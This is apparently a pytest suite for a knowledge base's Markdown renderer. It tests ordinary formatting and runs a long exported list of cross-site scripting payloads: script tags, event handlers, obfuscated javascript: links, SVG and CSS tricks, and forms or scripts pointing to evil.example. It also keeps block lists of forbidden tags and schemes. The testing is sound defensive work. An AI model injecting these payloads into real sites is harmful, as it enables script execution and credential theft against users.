"""kb.markdown: normal Markdown renders as expected, hostile input never becomes markup.

`HOSTILE_INPUTS` is exported so other tests (forms, views, templates) can push the same
payloads through their own paths: `from tests.test_markdown import HOSTILE_INPUTS`.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest

from kb import markdown
from kb.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    LINK_REL,
    is_safe_url,
    plain_text,
    reading_minutes,
    render_markdown,
    render_plain,
)

# --- helpers --------------------------------------------------------------------------


class _Structure(HTMLParser):
    """Records every tag and attribute as a browser-like tokenizer sees them.

    html.parser decodes character references in attribute values, so href checks see
    what a browser would resolve, not the escaped form.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.end_tags: list[str] = []
        self.other: list[str] = []  # comments, doctypes, processing instructions
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        self.end_tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.other.append(f"comment:{data}")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"decl:{decl}")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"pi:{data}")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"unknown:{data}")


def structure(html: str) -> _Structure:
    parser = _Structure()
    parser.feed(html)
    parser.close()
    return parser


BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "file:", "blob:")
FORBIDDEN_TAG_TEXT = (
    "<script",
    "<img",
    "<svg",
    "<math",
    "<iframe",
    "<object",
    "<embed",
    "<style",
    "<form",
    "<input",
    "<base",
    "<meta",
    "<link",
    "<h1",
)
FORBIDDEN_ATTRIBUTE_PREFIXES = ("on", "hx-", "data-", "style", "class", "id", "src", "srcdoc")


def _url_for_check(value: str) -> str:
    """What a browser could make of a URL, and then some: decoded, no controls, lower."""
    return re.sub(r"[\x00-\x20\x7f]+", "", unquote(value)).lower()


def assert_safe(html: str) -> None:
    """The whole contract for untrusted output, checked on parsed HTML and on the string."""
    lowered = html.lower()
    for needle in FORBIDDEN_TAG_TEXT:
        assert needle not in lowered, f"{needle!r} in {html[:300]!r}"
    parsed = structure(html)
    assert parsed.other == []
    regions = 0
    for tag, attrs in parsed.tags:
        if markdown.is_table_region(tag, attrs):
            regions += 1  # our scroll region around a table, never the writer's
            continue
        assert tag in ALLOWED_TAGS, f"tag <{tag}> not allowed: {html[:300]!r}"
        allowed = ALLOWED_ATTRIBUTES.get(tag, frozenset())
        names = [name for name, _ in attrs]
        assert len(names) == len(set(names)), f"duplicate attributes on <{tag}>"
        for name, value in attrs:
            assert name in allowed, f"attribute {name!r} not allowed on <{tag}>"
            assert not name.startswith(FORBIDDEN_ATTRIBUTE_PREFIXES), name
            if name == "href":
                url = _url_for_check(value or "")
                for scheme in BAD_SCHEMES:
                    assert scheme not in url, f"{scheme} in href {value!r}"
                assert is_safe_url(value or "")
        if tag == "a":
            assert dict(attrs).get("rel") == LINK_REL
        if tag == "ol":
            assert re.fullmatch(r"[0-9]+", dict(attrs).get("start") or "0")
        if tag == "th":
            assert dict(attrs).get("scope") in (None, "col", "row")
    # End tags come only from allowed elements too (a stray </script> would be a bug).
    assert set(parsed.end_tags) <= ALLOWED_TAGS | ({"div"} if regions else set())
    assert parsed.end_tags.count("div") == regions


# --- normal Markdown ------------------------------------------------------------------


def test_headings_move_down_so_the_page_keeps_its_h1() -> None:
    html = render_markdown("# Titel\n\n## Unterpunkt\n\n### Detail\n\n#### Tiefer")
    assert html == "<h2>Titel</h2>\n<h3>Unterpunkt</h3>\n<h4>Detail</h4>\n<h4>Tiefer</h4>"


def test_headings_keep_their_relative_levels_from_h2() -> None:
    # Someone who already starts at ## gets h2 (no skipped level under the page's h1).
    assert render_markdown("## A\n\n### B") == "<h2>A</h2>\n<h3>B</h3>"
    assert render_markdown("###### Klein") == "<h2>Klein</h2>"
    assert render_markdown("Titel\n=====\n\nSub\n---") == "<h2>Titel</h2>\n<h3>Sub</h3>"


def test_paragraph_emphasis_strikethrough_and_umlauts() -> None:
    html = render_markdown("Grüße aus **Köln**, *Düsseldorf* und ~~Bonn~~. Straße ß ẞ")
    assert html == (
        "<p>Grüße aus <strong>Köln</strong>, <em>Düsseldorf</em> und <del>Bonn</del>. "
        "Straße ß ẞ</p>"
    )


def test_decomposed_umlauts_are_normalised_to_nfc() -> None:
    assert render_markdown("Gru\u0308ße") == "<p>Grüße</p>"


def test_lists() -> None:
    html = render_markdown("- eins\n- zwei\n  - drei\n\n3. drei\n4. vier")
    assert html == (
        "<ul>\n<li>eins</li>\n<li>zwei\n<ul>\n<li>drei</li>\n</ul>\n</li>\n</ul>\n"
        '<ol start="3">\n<li>drei</li>\n<li>vier</li>\n</ol>'
    )


def test_table_without_inline_styles() -> None:
    html = render_markdown("| Amt | Kanal |\n|:--|--:|\n| Stadt | Mastodon |")
    assert html == (
        '<div class="kern-table-responsive" tabindex="0" role="region" aria-label="Amt, Kanal">'
        "<table>\n<thead>\n<tr>\n"
        '<th scope="col">Amt</th>\n<th scope="col">Kanal</th>\n'
        "</tr>\n</thead>\n<tbody>\n<tr>\n"
        "<td>Stadt</td>\n<td>Mastodon</td>\n"
        "</tr>\n</tbody>\n</table></div>"
    )
    assert_safe(html)


def test_a_table_scrolls_in_its_own_region_named_by_its_heads() -> None:
    html = render_markdown('| **Amt** & "Ort" | |\n|--|--|\n| a | b |\n\n<div>x</div>')
    assert html.startswith(
        '<div class="kern-table-responsive" tabindex="0" role="region" '
        'aria-label="Amt &amp; &quot;Ort&quot;"><table>'
    )
    assert html.count("<div") == 1  # the writer's <div> is text
    assert "&lt;div&gt;x&lt;/div&gt;" in html
    assert_safe(html)


def test_links_get_rel_and_lose_title() -> None:
    html = render_markdown('[Leitfaden](https://example.org/a?b=1&c=2 "Titel")')
    assert html == (
        '<p><a href="https://example.org/a?b=1&amp;c=2" rel="nofollow ugc noopener">'
        "Leitfaden</a></p>"
    )


def test_autolinks_and_mailto() -> None:
    html = render_markdown("<https://bund.de> und <presse@stadt.example>")
    assert html == (
        '<p><a href="https://bund.de" rel="nofollow ugc noopener">https://bund.de</a> und '
        '<a href="mailto:presse@stadt.example" rel="nofollow ugc noopener">'
        "presse@stadt.example</a></p>"
    )


def test_bare_urls_are_not_linked() -> None:
    # linkify is off (it would need another dependency); the URL stays text.
    assert render_markdown("https://bund.de") == "<p>https://bund.de</p>"


def test_reference_links() -> None:
    html = render_markdown("[Handbuch][h]\n\n[h]: https://example.org/handbuch")
    assert html == (
        '<p><a href="https://example.org/handbuch" rel="nofollow ugc noopener">Handbuch</a></p>'
    )


def test_relative_links_and_fragments_are_kept() -> None:
    html = render_markdown("[Eintrag](/wissen/krisen) [oben](#top) [Suche](?q=x) [hoch](../a)")
    hrefs = [dict(attrs)["href"] for tag, attrs in structure(html).tags if tag == "a"]
    assert hrefs == ["/wissen/krisen", "#top", "?q=x", "../a"]
    assert_safe(html)


def test_code_inline_and_block_stay_escaped() -> None:
    html = render_markdown('`<b>` und\n\n```html"><script>\n<script>alert("x")</script>\n```')
    assert html == (
        "<p><code>&lt;b&gt;</code> und</p>\n"
        '<pre><code>&lt;script&gt;alert("x")&lt;/script&gt;\n</code></pre>'
    )


def test_indented_code_block() -> None:
    assert render_markdown("    if a < b:\n        pass") == (
        "<pre><code>if a &lt; b:\n    pass\n</code></pre>"
    )


def test_blockquote_hr_and_hard_break() -> None:
    html = render_markdown("> Zitat  \n> zweite Zeile\n\n---")
    assert html == "<blockquote>\n<p>Zitat<br>\nzweite Zeile</p>\n</blockquote>\n<hr>"


def test_raw_html_is_shown_as_text() -> None:
    html = render_markdown('<b onclick="x()">fett</b>\n\n<div>Block</div>')
    assert html == (
        '<p>&lt;b onclick="x()"&gt;fett&lt;/b&gt;</p>\n<p>&lt;div&gt;Block&lt;/div&gt;</p>'
    )


def test_entities_are_decoded_once_and_reescaped() -> None:
    assert render_markdown("Tom &amp; Jerry &copy; &amp;lt;") == (
        "<p>Tom &amp; Jerry © &amp;lt;</p>"
    )


def test_images_become_links_to_their_url() -> None:
    assert render_markdown("![Logo der Stadt](https://cdn.example/logo.png)") == (
        '<p><a href="https://cdn.example/logo.png" rel="nofollow ugc noopener">'
        "Logo der Stadt</a></p>"
    )
    assert render_markdown("![](https://cdn.example/logo.png)") == (
        '<p><a href="https://cdn.example/logo.png" rel="nofollow ugc noopener">'
        "https://cdn.example/logo.png</a></p>"
    )


def test_image_inside_link_becomes_its_alt_text() -> None:
    assert render_markdown("[![Logo](https://cdn.example/l.png)](https://stadt.example)") == (
        '<p><a href="https://stadt.example" rel="nofollow ugc noopener">Logo</a></p>'
    )


def test_image_with_disallowed_url_is_only_alt_text() -> None:
    assert render_markdown("![Pixel](data:image/gif;base64,R0lGOD)") == "<p>Pixel</p>"


def test_empty_and_whitespace_input() -> None:
    assert render_markdown("") == ""
    assert render_markdown(" \n\t\n") == ""
    assert render_plain("") == ""
    assert plain_text("") == ""


def test_rendering_is_deterministic() -> None:
    text = "# A\n\n- [x](https://a.example) *b*\n\n| a |\n|---|\n| 1 |\n\n![i](/x.png)"
    first = render_markdown(text)
    assert all(render_markdown(text) == first for _ in range(20))
    # Rendering another document in between leaves no state behind.
    render_markdown("###### tief\n\n~~x~~")
    assert render_markdown(text) == first


# --- render_plain ---------------------------------------------------------------------


def test_render_plain_turns_headings_into_paragraphs() -> None:
    assert render_plain("# Frage\n\nText") == "<p>Frage</p>\n<p>Text</p>"
    assert render_plain("Frage\n===") == "<p>Frage</p>"


def test_render_plain_leaves_table_syntax_as_text() -> None:
    html = render_plain("| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<table" not in html
    assert html == "<p>| a | b |\n|---|---|\n| 1 | 2 |</p>"


def test_render_plain_keeps_the_rest() -> None:
    text = (
        "**fett** [Link](https://a.example) `code`\n\n- a\n\n> z\n\n![b](https://c.example/b.png)"
    )
    assert render_plain(text) == render_markdown(text)


# --- plain_text and reading_minutes ---------------------------------------------------


def test_plain_text_strips_tags_and_collapses_whitespace() -> None:
    text = (
        "# Titel\n\nEin **fetter**   Satz\nmit Umbruch.\n\n- eins\n- zwei\n\n"
        "| a | b |\n|-|-|\n| 1 | 2 |"
    )
    assert plain_text(text) == "Titel Ein fetter Satz mit Umbruch. eins zwei a b 1 2"


def test_plain_text_unescapes_entities_exactly_once() -> None:
    assert plain_text("Tom &amp; Jerry") == "Tom & Jerry"
    assert plain_text("&amp;lt;b&amp;gt;") == "&lt;b&gt;"
    assert plain_text("&copy; 2025") == "© 2025"
    assert plain_text("a < b > c & d") == "a < b > c & d"
    # Raw HTML is text in Markdown, so it is text here too (and must be escaped by the
    # template that shows it).
    assert plain_text("<script>alert(1)</script>") == "<script>alert(1)</script>"


def test_plain_text_shows_link_and_image_texts_not_urls() -> None:
    assert plain_text("[Leitfaden](https://a.example) ![Logo](https://b.example/l.png)") == (
        "Leitfaden Logo"
    )


def test_plain_text_cuts_at_a_word_boundary() -> None:
    text = "Die Stadtverwaltung informiert heute über Mastodon"
    assert plain_text(text, limit=100) == text
    assert plain_text(text, limit=len(text)) == text
    cut = plain_text(text, limit=30)
    assert cut == "Die Stadtverwaltung…"
    assert len(cut) <= 30
    assert plain_text(text, limit=33) == "Die Stadtverwaltung informiert…"
    # A cut right before a space still ends on a whole word.
    assert plain_text("eins zwei drei", limit=10) == "eins zwei…"


def test_plain_text_cut_drops_trailing_punctuation() -> None:
    assert plain_text("Erstens, zweitens, drittens", limit=20) == "Erstens, zweitens…"


def test_plain_text_hard_cuts_a_single_long_word() -> None:
    assert plain_text("Donaudampfschifffahrtsgesellschaft", limit=10) == "Donaudamp…"
    assert plain_text("Donaudampfschifffahrtsgesellschaft", limit=1) == "…"
    assert plain_text("abc", limit=0) == ""


@pytest.mark.parametrize("limit", range(1, 60))
def test_plain_text_never_exceeds_the_limit(limit: int) -> None:
    result = plain_text("Für **alle** Behörden: ein Leitfaden, kurz & knapp.", limit=limit)
    assert len(result) <= limit


def test_reading_minutes() -> None:
    assert reading_minutes("") == 1
    assert reading_minutes("Wort " * 200) == 1
    assert reading_minutes("Wort " * 201) == 2
    assert reading_minutes("Wort " * 1000) == 5
    # Markup does not count as words.
    assert reading_minutes("**a** " * 200 + "[b](https://c.example)") == 2


# --- hostile input --------------------------------------------------------------------

_HOSTILE_CASES: list[tuple[str, str]] = [
    # script tags
    ("script", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-in-block", "<div>\n<script>alert(1)</script>\n</div>"),
    ("script-after-text", "Hallo\n\n<script>\nalert(1)\n</script>\n\nWelt"),
    # event handlers
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("a-onclick", '<a href="#" onclick="alert(1)">x</a>'),
    ("body-onload", "<body onload=alert(1)>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("inline-handler-in-text", 'Text <b onmouseover="alert(1)">x</b> Text'),
    # javascript: and friends in Markdown links, autolinks, reference links, raw links
    ("md-link-js", "[x](javascript:alert(1))"),
    ("md-link-js-spaces", "[x]( javascript:alert(1) )"),
    ("md-link-js-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("md-link-js-tab-entity", "[x](java&#x09;script:alert(1))"),
    ("md-link-js-newline-entity", "[x](java&#10;script:alert(1))"),
    ("md-link-js-decimal-entities", "[x](&#106;&#97;&#118;&#97;script:alert(1))"),
    ("md-link-js-hex-entities", "[x](&#x6A;avascript&#x3A;alert(1))"),
    ("md-link-js-named-colon", "[x](javascript&colon;alert(1))"),
    ("md-link-js-percent", "[x](javascript%3Aalert(1))"),
    ("md-link-js-percent-tab", "[x](java%09script:alert(1))"),
    ("md-link-js-angle", "[x](<javascript:alert(1)>)"),
    ("md-link-js-angle-space", "[x](< javascript:alert(1)>)"),
    ("md-link-js-leading-space-entity", "[x](&#32;javascript:alert(1))"),
    ("md-link-js-backslash", "[x](java\\script:alert(1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-data-image", "[x](data:image/png;base64,iVBORw0KGgo=)"),
    ("md-link-file", "[x](file:///etc/passwd)"),
    ("autolink-js", "<javascript:alert(1)>"),
    ("autolink-js-upper", "<JAVASCRIPT:alert(1)>"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("autolink-quote-breakout", '<http://a.example/"onmouseover="alert(1)>'),
    ("ref-link-js", "[x][r]\n\n[r]: javascript:alert(1)"),
    ("ref-link-js-title", '[x][r]\n\n[r]: javascript:alert(1) "t"'),
    ("ref-link-data", "[x]\n\n[x]: data:text/html;base64,PHNjcmlwdD4="),
    ("ref-link-entity", "[x]\n\n[x]: &#106;avascript:alert(1)"),
    ("raw-a-js", '<a href="javascript:alert(1)">x</a>'),
    ("raw-a-js-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("md-link-title-breakout", '[x](https://a.example "a\\" onclick=\\"alert(1)")'),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](https://a.example)"),
    # malformed HTML
    ("malformed-div-script", "<div <script>alert(1)</script>"),
    ("double-angle-script", "<<script>>alert(1)<</script>>"),
    ("unclosed-comment", "<!-- <script>alert(1)</script>"),
    ("comment-breakout", "<!--><script>alert(1)</script>-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction", '<?xml version="1.0"?><script>alert(1)</script>'),
    ("doctype", "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>"),
    ("unclosed-tag-attr", '<a href="https://a.example" onclick="alert(1)'),
    ("slash-separated-attr", "<img/src=x/onerror=alert(1)>"),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("textarea-breakout", "<textarea><script>alert(1)</script></textarea>"),
    ("template", "<template><script>alert(1)</script></template>"),
    # SVG and MathML
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'),
    ("svg-use", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("svg-foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)>"),
    ("math-href", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    # CSS
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-attr", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    # embedding, navigation, forms
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-src-js", "<iframe src=javascript:alert(1)>"),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("form-action", '<form action="https://evil.example"><input name=p type=password></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    # htmx and friends
    ("htmx-get", '<div hx-get="/admin" hx-trigger="load">x</div>'),
    ("htmx-data-post", '<a data-hx-post="/admin/delete" data-hx-trigger="load">x</a>'),
    ("htmx-on", '<div hx-on:click="alert(1)">x</div>'),
    ("htmx-swap-oob", '<div id="live-region" hx-swap-oob="true">x</div>'),
    ("class-id-data", '<p class="admin" id="csrf_token" data-x="1">x</p>'),
    # Markdown image tricks
    ("image-js", "![x](javascript:alert(1))"),
    ("image-tracking-pixel", "![x](https://evil.example/track.gif)"),
    ("image-in-js-link", "[![x](y)](javascript:z)"),
    ("image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("image-alt-html", '![<img src=x onerror=alert(1)>](https://a.example/i.png "t")'),
    ("image-alt-quote", '![x" onerror="alert(1)](https://a.example/i.png)'),
    ("image-ref", "![x][i]\n\n[i]: https://evil.example/track.gif"),
    # entities, control and bidi characters
    ("entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("double-entity-script", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("entity-without-semicolon", "&#60script&#62alert(1)&#60/script&#62"),
    ("null-bytes", "<scr\x00ipt>alert(1)</scr\x00ipt> [x](java\x00script:alert(1))"),
    ("null-in-link", "[x](https://a.example/\x00)"),
    ("rtl-override", "[gpj.exe\u202e](https://evil.example/\u202egpj.exe) \u202etxet"),
    ("zero-width", "[x](java\u200bscript:alert(1)) <scr\u200bipt>"),
    ("fullwidth-lt", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    # resource exhaustion: deep nesting, long lines, pathological delimiters
    ("deep-blockquote", ">" * 10_000 + " x"),
    ("deep-blockquote-spaced", "> " * 10_000 + "x"),
    ("deep-list", "- " * 10_000 + "x"),
    ("deep-list-star", "* " * 10_000 + "x"),
    ("deep-list-indented", "\n".join(" " * (2 * i) + "- x" for i in range(1_000))),
    ("deep-ordered-list", "1. " * 5_000 + "x"),
    ("deep-emphasis", "*" * 10_000 + "x" + "*" * 10_000),
    ("deep-brackets", "[" * 10_000 + "x" + "]" * 10_000),
    ("deep-links", "[" * 3_000 + "x" + "](https://a.example)" * 3_000),
    ("many-angle-brackets", "<" * 20_000),
    ("long-line", "a" * 200_000),
    ("long-link", "[x](https://a.example/" + "a" * 100_000 + ")"),
    ("many-backticks", "`" * 10_000 + "x"),
    ("huge-ol-start", "123456789012345. x"),
]

HOSTILE_INPUTS: list[str] = [payload for _, payload in _HOSTILE_CASES]
"""Payloads that must never produce markup beyond the allow-list; reuse them elsewhere."""

_HOSTILE_IDS = [name for name, _ in _HOSTILE_CASES]


def test_hostile_case_names_are_unique_and_plentiful() -> None:
    assert len(set(_HOSTILE_IDS)) == len(_HOSTILE_IDS)
    assert len(HOSTILE_INPUTS) >= 30


@pytest.mark.parametrize("payload", HOSTILE_INPUTS, ids=_HOSTILE_IDS)
def test_hostile_input_renders_safely(payload: str) -> None:
    # How long each takes is measured by tests/bench/markdown.py, not asserted here.
    assert_safe(render_markdown(payload))


@pytest.mark.parametrize("payload", HOSTILE_INPUTS, ids=_HOSTILE_IDS)
def test_hostile_input_renders_safely_in_plain_mode(payload: str) -> None:
    assert_safe(render_plain(payload))


@pytest.mark.parametrize("payload", HOSTILE_INPUTS, ids=_HOSTILE_IDS)
def test_hostile_input_plain_text_has_no_markup_from_the_renderer(payload: str) -> None:
    text = plain_text(payload, limit=160)
    assert len(text) <= 160
    assert "\x00" not in text
    assert "\u202e" not in text


def test_raw_script_survives_only_as_escaped_text() -> None:
    html = render_markdown("<script>alert(1)</script>")
    assert html == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
    assert structure(html).text == ["<script>alert(1)</script>"]


def test_javascript_link_is_left_as_text() -> None:
    html = render_markdown("[x](javascript:alert(1))")
    assert html == "<p>[x](javascript:alert(1))</p>"


def test_obfuscated_javascript_link_loses_its_href() -> None:
    # markdown-it accepts this one (the entity becomes %09); kb.markdown drops the link.
    assert render_markdown("[x](java&#x09;script:alert(1))") == "<p>x</p>"


def test_htmx_attributes_are_text_not_attributes() -> None:
    html = render_markdown('<div hx-get="/admin" hx-trigger="load">x</div>')
    assert html == '<p>&lt;div hx-get="/admin" hx-trigger="load"&gt;x&lt;/div&gt;</p>'


def test_null_bytes_and_bidi_overrides_are_removed() -> None:
    assert render_markdown("a\x00b \u202eevil\u202c \u2066iso\u2069") == "<p>a\ufffdb evil iso</p>"


def test_ordered_list_start_too_long_is_not_a_list() -> None:
    # CommonMark allows at most nine digits; longer numbers are just text.
    assert render_markdown("1234567890. x") == "<p>1234567890. x</p>"
    assert render_markdown("123456789. x") == '<ol start="123456789">\n<li>x</li>\n</ol>'


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://a.example", True),
        ("HTTP://A.EXAMPLE", True),
        ("mailto:a@b.example", True),
        ("/relativ", True),
        ("relativ/pfad:mit-doppelpunkt", True),
        ("#anker", True),
        ("?q=a:b", True),
        ("//a.example/x", True),
        ("javascript:alert(1)", False),
        (" JavaScript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("java%09script:alert(1)", False),
        ("javascript%3Aalert(1)", False),
        ("vbscript:x", False),
        ("data:text/html,x", False),
        ("ftp://a.example", False),
        ("tel:+49301234", False),
    ],
)
def test_is_safe_url(url: str, safe: bool) -> None:
    assert is_safe_url(url) is safe


def test_allow_list_is_what_the_project_agreed_on() -> None:
    assert set(ALLOWED_TAGS) == {
        "p", "br", "hr", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "del",
        "blockquote", "code", "pre", "a", "table", "thead", "tbody", "tr", "th", "td",
    }  # fmt: skip
    assert dict(ALLOWED_ATTRIBUTES) == {"a": {"href", "rel"}, "ol": {"start"}, "th": {"scope"}}


# --- the second wall and the checker --------------------------------------------------


@pytest.mark.parametrize("payload", HOSTILE_INPUTS, ids=_HOSTILE_IDS)
def test_sanitiser_alone_also_cleans_hostile_input_as_raw_html(payload: str) -> None:
    # If markdown-it ever let raw HTML through, nh3 must still hold the line.
    assert_safe(markdown._CLEANER.clean(payload))


@pytest.mark.parametrize(
    "html",
    [
        '<a href="java%09script:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" JAVASCRIPT:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<a href="#" title="t" lang="de" class="c" id="i" style="color:red">x</a>',
        '<ol start="1; x" type="a"><li>x</li></ol>',
        '<th scope="javascript" style="x">x</th>',
        "<h1>x</h1><h5>y</h5><img src=x><input>",
    ],
)
def test_sanitiser_strips_what_the_renderer_never_emits(html: str) -> None:
    assert_safe(markdown._CLEANER.clean(html))


@pytest.mark.parametrize(
    "bad",
    [
        "<script>x</script>",
        "<img src=x>",
        '<p onclick="x">x</p>',
        '<p hx-get="/admin">x</p>',
        '<p data-hx-post="/x">x</p>',
        '<p style="x">x</p>',
        '<p class="x">x</p>',
        '<a href="jav&#x61;script:x" rel="nofollow ugc noopener">x</a>',
        '<a href="java%09script:x" rel="nofollow ugc noopener">x</a>',
        '<a href="https://a.example">no rel</a>',
        "<h1>x</h1>",
        "<div>x</div>",
        "<!-- x -->",
        "</script>",
    ],
)
def test_the_checker_itself_catches_unsafe_html(bad: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe(bad)


STORED_TEXTS = [
    "**fett** und [Link](https://x.example) &amp; &lt;script&gt;",
    "## Ausgangslage\n\n- eins\n- zwei\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "<script>alert(1)</script> ![Bild](https://x.example/b.png) `Code`",
    "Sehr langer Text " * 40,
]


@pytest.mark.parametrize("text", STORED_TEXTS)
def test_text_of_stored_html_is_the_plain_text(text: str) -> None:
    assert markdown.text_of_html(render_markdown(text)) == plain_text(text)
    assert markdown.text_of_html(render_markdown(text), 40) == plain_text(text, 40)


# --- bounds for pathological input (times: tests/bench/markdown.py) -----------------------


def test_a_text_with_more_delimiters_than_writing_has_is_shown_as_typed() -> None:
    from kb.markdown import MAX_DELIMITERS, MAX_DELIMITERS_PER_BLOCK

    one_block = "Vorwort mit **Fett**\n\n" + "[a](" * (MAX_DELIMITERS_PER_BLOCK // 3 + 1)
    many_blocks = "\n\n".join(["*x* [y](z)"] * (MAX_DELIMITERS // 6 + 1))  # 6 each
    for text in (one_block, many_blocks):
        html = render_markdown(text)
        assert html.startswith("<p>") and "<a " not in html and "<em>" not in html
        assert "<strong>" not in html
    assert render_markdown(one_block).startswith("<p>Vorwort mit **Fett**</p>\n<p>[a]([a](")
    # Below the bounds the same texts are Markdown.
    under = "Vorwort mit **Fett**\n\n" + "[a](b) " * (MAX_DELIMITERS_PER_BLOCK // 4 - 1)
    assert "<strong>Fett</strong>" in render_markdown(under)
    assert '<a href="b"' in render_markdown(under)


def test_nesting_deeper_than_the_bound_is_text() -> None:
    from kb.markdown import MAX_NESTING

    quoted = render_markdown("> " * 200 + "x")
    assert 0 < quoted.count("<blockquote>") <= MAX_NESTING
    listed = render_markdown("- " * 200 + "x")
    assert 0 < listed.count("<ul>") <= MAX_NESTING
